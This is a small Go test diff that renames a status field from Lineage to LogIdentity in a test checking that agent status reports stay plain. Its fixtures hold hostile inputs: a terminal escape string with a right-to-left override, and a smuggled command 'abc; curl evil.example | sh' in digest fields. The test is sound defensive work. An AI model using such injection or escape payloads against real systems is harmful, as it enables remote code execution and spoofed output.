@@ -15,7 +15,7 @@ func TestAgentStatusIsPlain(t *testing.T) {
 	const escape, command = "\x1b[2Jall is well\u202e", "abc; curl evil.example | sh"
 	reported := &wire.AgentStatus{
 		Version: escape, Hub: escape, Trusts: []string{escape}, KubernetesVersion: escape, APIsDigest: escape, Halted: strings.Repeat(escape, 1000),
-		Lineage: escape, Awaits: escape, Purge: &wire.PurgeStatus{Objects: []string{escape}},
+		LogIdentity: escape, Awaits: escape, Purge: &wire.PurgeStatus{Objects: []string{escape}},
 		Prune: &wire.PruneStatus{
 			Pending: -1, Digest: command, Objects: []string{escape},
 			Spaces:     []wire.SpacePrune{{Space: "s", Pending: -1, Digest: "good1"}, {Space: "s", Digest: command}, {Space: escape, Digest: "bad2"}},
